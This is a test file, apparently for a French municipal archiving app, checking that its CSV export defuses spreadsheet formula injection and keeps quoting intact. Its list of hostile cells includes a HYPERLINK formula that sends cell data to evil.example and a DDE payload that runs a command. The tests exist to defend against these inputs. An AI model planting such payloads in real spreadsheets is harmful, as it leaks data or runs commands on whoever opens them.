// The CSV a secretary opens in her spreadsheet: hostile objets and file names never run as
// formulas, never break a row, and read back exactly (RFC 4180, « ; », UTF-8 with BOM).
import { mkdtempSync, readFileSync, rmSync, existsSync, readdirSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { CSV_BOM, CSV_COLUMNS, csvCell, csvLine, writeDocumentListCsv } from '../../../main/core/app/document-list-csv';
import type { ExportRow } from '../../../main/core/store/document-export';
import { parseCsv } from '../../tools/csv';

const dir = mkdtempSync(path.join(tmpdir(), 'sceau-csv-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1;"clic")',
  '+33 1 23 45 67 89',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  'Vote; du "budget"\r\nprimitif',
  '"déjà entre guillemets"',
  "cmd|' /C calc'!A0",
  'Délibération n° 45 – l’école',
  '',
];

describe('csvCell', () => {
  it('prefixes every cell a spreadsheet would read as a formula', () => {
    for (const s of ['=1+1', '+1', '-1', '@A1', '\t1', '\r1', '\n1'])
      expect(csvCell(s).replace(/^"/, '')).toMatch(/^'/);
    // Ordinary text and numbers are left alone.
    expect(csvCell('Budget 2024')).toBe('Budget 2024');
    expect(csvCell(1234)).toBe('1234');
    expect(csvCell('7.1')).toBe('7.1');
    expect(csvCell(null)).toBe('');
  });

  it('quotes separators, quotes and line breaks (RFC 4180), doubling inner quotes', () => {
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('le "budget"')).toBe('"le ""budget"""');
    expect(csvCell('ligne\r\nsuivante')).toBe('"ligne\r\nsuivante"');
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
  });

  it('reads back every hostile cell on one row, formula-safe', () => {
    const line = csvLine(HOSTILE);
    const rows = parseCsv(line);
    expect(rows).toHaveLength(1);
    const back = rows[0]!;
    expect(back).toHaveLength(HOSTILE.length);
    back.forEach((cell, i) => {
      const original = HOSTILE[i]!;
      expect(cell).toBe(/^[=+\-@\t\r\n]/.test(original) ? `'${original}` : original);
      expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    });
  });
});

function row(i: number, objet: string): ExportRow {
  return {
    profileId: 'p1',
    profileName: 'Commune de Plouguerneau',
    fileName: `=acte ${i}.pdf`,
    relativePath: `acte ${i}.pdf`,
    size: 1000 + i,
    fingerprintAlg: 'sha256',
    fingerprintHex: i.toString(16).padStart(64, '0'),
    state: 'accepted',
    role: i % 2 ? 'annex' : 'act',
    metadata: {
      nature: 'DE',
      number: `2024_${String(i).padStart(3, '0')}`,
      date: '2024-03-12',
      objet,
      classification: '7.1',
    },
    parentNumber: i % 2 ? `2024_${String(i - 1).padStart(3, '0')}` : null,
    archiveReference: `AE_2026_${i}`,
    messageIdentifier: `MSG-${i}`,
    repliedAt: '2026-03-12T13:05:00.000Z',
    createdAt: '2026-03-12T12:00:00.000Z',
  };
}

describe('writeDocumentListCsv', () => {
  it('writes a BOM, French headers and every row of the filter, batch after batch', async () => {
    const all = Array.from({ length: 1234 }, (_, i) => row(i, HOSTILE[i % HOSTILE.length]!));
    const asked: number[] = [];
    const out = path.join(dir, 'liste.csv');
    const count = await writeDocumentListCsv({
      reader: {
        ids: () => all.map((_, i) => i),
        rows: (ids) => {
          asked.push(ids.length);
          return ids.map((i) => all[i]!);
        },
      },
      filter: {},
      sort: 'newest',
      classificationOf: () => [{ code: '7.1', label: 'Budget de la commune (liste de la préfecture)' }],
      out,
    });
    expect(count).toBe(1234);
    // Bounded: never more than one batch read at a time.
    expect(Math.max(...asked)).toBeLessThanOrEqual(500);
    const bytes = readFileSync(out);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    expect(text.startsWith(CSV_BOM)).toBe(true);
    const rows = parseCsv(text.slice(1));
    expect(rows[0]).toEqual(CSV_COLUMNS.map((c) => c.title));
    expect(rows[0]).toContain('Date de l’acte');
    expect(rows).toHaveLength(1 + 1234);
    const col = (name: string) => rows[0]!.indexOf(name);
    for (const [i, r] of rows.slice(1).entries()) {
      expect(r).toHaveLength(CSV_COLUMNS.length);
      for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
      expect(r[col('Numéro')]).toBe(`2024_${String(i).padStart(3, '0')}`);
      expect(r[col('Fichier')]).toBe(`'=acte ${i}.pdf`);
    }
    const first = rows[1]!;
    expect(first[col('Date de l’acte')]).toBe('12/03/2024');
    expect(first[col('Nature')]).toBe('Délibérations');
    expect(first[col('Libellé de la classification')]).toBe('Budget de la commune (liste de la préfecture)');
    expect(first[col('État')]).toBe('Archivé');
    expect(first[col('Cote attribuée par l’archive')]).toBe('AE_2026_0');
    expect(first[col('Réponse de l’archive le')]).toBe('12/03/2026 14:05');
    expect(rows[2]![col('Rôle')]).toBe('Annexe');
    expect(rows[2]![col('Numéro de l’acte principal')]).toBe('2024_000');
    expect(existsSync(`${out}.part`)).toBe(false);
  });

  it('leaves no file behind when the place cannot be written', async () => {
    const sub = path.join(dir, 'absent');
    await expect(
      writeDocumentListCsv({
        reader: { ids: () => [0], rows: () => [row(0, 'x')] },
        filter: {},
        sort: 'newest',
        classificationOf: () => null,
        out: path.join(sub, 'liste.csv'),
      }),
    ).rejects.toThrow();
    mkdirSync(sub, { recursive: true });
    expect(readdirSync(sub)).toEqual([]);
  });
});
